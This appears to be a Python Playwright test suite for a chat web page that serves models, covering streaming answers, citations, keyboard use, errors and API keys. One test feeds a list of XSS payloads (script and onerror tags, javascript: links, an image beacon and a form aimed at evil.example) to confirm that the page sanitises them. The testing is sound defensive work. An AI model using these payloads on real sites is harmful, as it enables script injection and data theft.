"""The chat page in headless Chromium, against the API and a stand-in for what serves models."""

import json
import re
from datetime import timedelta
from pathlib import Path

import pytest
from playwright.sync_api import expect

from db.models import Model, ModelVersion
from db.session import transaction
from tests.api.answers.conftest import QUESTION, Desk
from tests.api.chat_page.conftest import NARROW, Chat
from tests.api.keyed import OPERATORS_KEY, Keyed
from tests.waiting import wait_until

pytestmark = pytest.mark.browser

MARKDOWN = """## Leave
You have **thirty days** [1, 7] &amp; more. See `handbook.pdf`:

| month | days |
|:--|--:|
| July | 18 |

```python
print("holidays" * 30)  # a line that is longer than a narrow screen is wide, so that it has to scroll
```
"""
SCHEMES = ("javascript:pwn()", "JaVaScRiPt:pwn()", "data:text/html,<script>pwn()</script>", "vbscript:pwn()")
HOSTILE = "\n\n".join(
    [
        "<script>pwn()</script><img src=x onerror=pwn()><svg onload=pwn()>",
        "<iframe srcdoc='<script>pwn()</script>'>",
        *(f"[click]({scheme})" for scheme in SCHEMES),
        "![secret](https://evil.example/?q=secret) ![x](data:image/svg+xml,<svg onload=pwn()>)",
        '<a href="javascript:pwn()">a</a> <https://evil.example/"onmouseover="pwn()> [r]',
        "`<img src=x onerror=pwn()>`\n\n```html\n<img src=x onerror=pwn()>\n```",
        "| <img src=x onerror=pwn()> |\n|--|\n| <b onclick=pwn()>b</b> |",
        "[r]: javascript:pwn() 'x'",
        "<style>* { display: none }</style><form action=https://evil.example><button>",
    ]
)


class TestConversation:
    def test_streams_cites_keeps_and_goes_on(
        self, chat: Chat, desk: Desk, app_url: str, handbook: bytes, tmp_path: Path
    ) -> None:
        desk.ready("librarian")
        desk.fill("the-office", {"handbook.pdf": handbook})
        desk.server.says = MARKDOWN
        page = chat.page
        chat.open(f"{app_url}/")
        assert page.url == f"{app_url}/chat"
        chat.choose("librarian")
        page.click("#show-documents")
        page.get_by_label("the-office").check()
        page.get_by_role("button", name="Save").click()
        page.click("#show-options")
        page.fill("#system", "Be brief.")
        page.fill("#temperature", "0.25")
        page.fill("#max-tokens", "77")
        page.get_by_role("button", name="Save").click()
        chat.ask(QUESTION)

        asked = desk.server.asked[-1]
        assert (asked["temperature"], asked["max_tokens"]) == (0.25, 77)
        assert asked["messages"][0]["content"].startswith("Be brief.")
        answer = page.locator(".assistant .body")
        assert answer.locator("h3").inner_text() == "Leave"
        assert "thirty days 1 [7] & more" in re.sub(r"\s+", " ", answer.inner_text())
        passage = page.locator(".passage").first
        assert re.search(r"handbook\.pdf · pp?\. [12–]+ · ", passage.inner_text())
        expect(passage.locator("blockquote")).not_to_be_visible()
        answer.locator(".citation").first.click()
        expect(passage.locator("blockquote")).to_be_visible()
        assert "thirty days" in passage.locator("blockquote").inner_text()
        answer.get_by_role("button", name="Copy code").click()
        assert page.evaluate("navigator.clipboard.readText()").startswith('print("holidays"')
        chat.see_that_all_can_use_it()
        page.emulate_media(color_scheme="dark")
        chat.see_that_all_can_use_it()
        chat.resize(*NARROW)
        chat.see_that_all_can_use_it()
        chat.resize(1280, 860)

        desk.server.says = "Another answer."
        page.get_by_role("button", name="Answer again").click()
        expect(page.locator(".assistant .body")).to_have_text("Another answer.")
        page.get_by_role("button", name="Edit message").click()
        page.get_by_label("Edit message").fill("And how many days of holidays are left?")
        page.get_by_label("Edit message").press("Enter")
        chat.wait_for_answer()
        assert chat.messages() == ["And how many days of holidays are left?", "Another answer."]
        assert desk.server.asked[-1]["messages"][-1]["content"].endswith(
            "And how many days of holidays are left?"
        )

        page.reload()
        chat.wait_for_models()
        assert chat.messages() == ["And how many days of holidays are left?", "Another answer."]
        assert page.input_value("#model") == "librarian"
        assert chat.titles() == [QUESTION]
        page.locator("#conversations li").hover()
        page.get_by_role("button", name="Rename").click()
        page.get_by_label("New title").fill("Leave")
        page.get_by_label("New title").press("Enter")
        assert chat.titles() == ["Leave"]
        with page.expect_download() as saving:
            page.click("#export-all")
        saved = tmp_path / "saved.json"
        saving.value.save_as(saved)
        exported = json.loads(saved.read_text())
        assert [message["role"] for message in exported["messages"]] == ["system", "user", "assistant"]
        page.locator("#conversations li").hover()
        page.get_by_role("button", name="Delete").click()
        page.get_by_role("dialog").get_by_role("button", name="Delete").click()
        expect(page.locator("#conversations li")).to_have_count(0)
        assert (
            page.evaluate("Object.keys(localStorage).filter((name) => name.includes('conversation'))") == []
        )
        page.set_input_files("#import-file", saved)
        expect(page.locator(".message")).to_have_count(2)
        assert chat.titles() == ["Leave"]
        page.set_input_files("#import-file", {"name": "x.json", "mimeType": "", "buffer": b"{"})
        expect(page.locator("#banner")).to_contain_text("This file is no JSON.")
        assert chat.complaints == []

    def test_by_keyboard_alone_on_a_narrow_screen(self, chat: Chat, desk: Desk, app_url: str) -> None:
        desk.ready("aaa-first")
        desk.ready("slow-speaker")
        desk.server.streams = False
        page, press = chat.page, chat.page.keyboard.press
        chat.resize(*NARROW)
        chat.open(f"{app_url}/chat")
        chat.see_that_all_can_use_it()
        assert chat.focused() == "prompt"
        chat.tab_to("model", "Shift+Tab")
        page.keyboard.type("slow-sp")
        assert page.input_value("#model") == "slow-speaker"
        chat.tab_to("prompt")
        page.keyboard.type("one")
        press("Shift+Enter")
        page.keyboard.type("two")
        press("Enter")
        expect(page.locator(".assistant .body")).to_contain_text("w3")
        left = desk.server.left
        press("Escape")
        chat.wait_for_answer()
        wait_until(lambda: desk.server.left == left + 1)
        assert chat.messages()[0] == "one\ntwo"
        assert page.locator(".note").inner_text() == "Stopped."
        assert chat.focused() == "prompt"

        chat.tab_to("show-sidebar", "Shift+Tab")
        press("Enter")
        assert chat.focused() == "new"
        chat.see_that_all_can_use_it()
        chat.tab_to("Delete “one two”")
        press("Enter")
        chat.tab_to("confirm-yes")
        press("Escape")
        assert chat.titles() == ["one two"]
        press("Escape")
        assert chat.focused() == "show-sidebar"
        expect(page.locator("#sidebar")).not_to_be_visible()
        press("Shift+Tab")
        press("Shift+Tab")
        assert page.evaluate("document.activeElement.textContent") == "Skip to your message"
        press("Enter")
        assert chat.focused() == "prompt"
        assert chat.complaints == []


class TestHostileAnswer:
    def test_runs_no_script_and_asks_nobody(self, chat: Chat, desk: Desk, app_url: str) -> None:
        desk.ready("hostile")
        desk.server.says = HOSTILE
        chat.page.add_init_script("window.pwned = 0; window.pwn = () => { window.pwned += 1; };")
        chat.open(f"{app_url}/chat")
        chat.choose("hostile")
        chat.ask("<img src=x onerror=pwn()>")
        body = chat.page.locator("#messages")
        assert (
            body.locator("script, iframe, img, style, form, svg:not(.icon), [onclick], [onerror]").count()
            == 0
        )
        for link in body.locator("a").all():
            assert (link.get_attribute("href") or "").startswith("https://evil.example")
            assert "noopener" in (link.get_attribute("rel") or "")
        for clickable in body.locator(".body p").all():
            clickable.dispatch_event("click")
        assert chat.messages()[0] == "<img src=x onerror=pwn()>"
        assert "<script>pwn()</script>" in chat.messages()[1]
        assert chat.page.evaluate("window.pwned") == 0
        assert all(address.startswith(app_url) for address in chat.asked)
        assert chat.complaints == []

    def test_not_even_what_was_imported_can(self, chat: Chat, app_url: str) -> None:
        """The policy itself is the second wall: markup that got in would stay dead."""
        chat.open(f"{app_url}/chat")
        for attempt in (
            "document.body.innerHTML = '<img src=x onerror=pwn()>'",
            "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        ):
            refused = chat.page.evaluate(
                f"() => {{ try {{ {attempt}; return false }} catch {{ return true }} }}"
            )
            assert refused, attempt
        assert any("TrustedHTML" in complaint for complaint in chat.complaints)


class TestErrors:
    def test_are_told_in_words_and_can_be_tried_again(self, chat: Chat, desk: Desk, app_url: str) -> None:
        for model in ("loading-away", "broken-off", "zz-works"):
            desk.ready(model)
        chat.open(f"{app_url}/chat")
        error = chat.page.locator(".error")
        chat.choose("loading-away")
        chat.ask("Hello?")
        expect(error).to_contain_text("The model cannot answer now")
        expect(error).to_contain_text(re.compile(r"tried again in \d+ s|can be tried again now"))
        chat.see_that_all_can_use_it()
        desk.server.streams = False
        chat.choose("broken-off")
        error.get_by_role("button", name="Try again").click()
        expect(error).to_contain_text("The answer broke off")
        assert chat.messages()[-1].strip() == "w0 w1"
        desk.server.streams = True
        desk.server.says = "It works."
        chat.choose("zz-works")
        error.get_by_role("button", name="Try again").click()
        expect(chat.page.locator(".assistant .body")).to_have_text("It works.")
        expect(error).to_have_count(0)
        assert [turn["content"] for turn in desk.server.asked[-1]["messages"]] == ["Hello?"]

    def test_a_server_that_wants_a_key_gets_it(self, chat: Chat, keyed: Keyed) -> None:
        page = chat.page
        page.goto(f"{keyed.url}/chat")
        expect(page.locator("#banner")).to_contain_text("This server wants an API key")
        for key, is_right in (("wrong", False), (OPERATORS_KEY, True)):
            page.locator("#banner").get_by_role("button", name="Enter a key").click()
            page.fill("#key", key)
            page.keyboard.press("Enter")
            expect(page.locator("#banner .error")).to_have_count(0 if is_right else 1)
        assert page.evaluate("[sessionStorage.length, localStorage.getItem('lathe.chat.key')]") == [1, None]
        assert page.locator("#model option").count() > 0

    def test_a_new_conversation_asks_the_model_that_was_published_last(
        self, chat: Chat, desk: Desk, app_url: str
    ) -> None:
        for name in ("zz-first", "zz-last", "zz-second"):
            desk.ready(name)
        with transaction(desk.sessions) as session:
            # Older, and not the last one newer: other tests ask what was published last, too.
            for version in (
                session.query(ModelVersion)
                .join(Model, Model.id == ModelVersion.model_id)
                .filter(Model.name.in_(["zz-first", "zz-second"]))
            ):
                version.created_at -= timedelta(hours=1)
        chat.open(f"{app_url}/chat")
        assert chat.page.input_value("#model") == "zz-last"
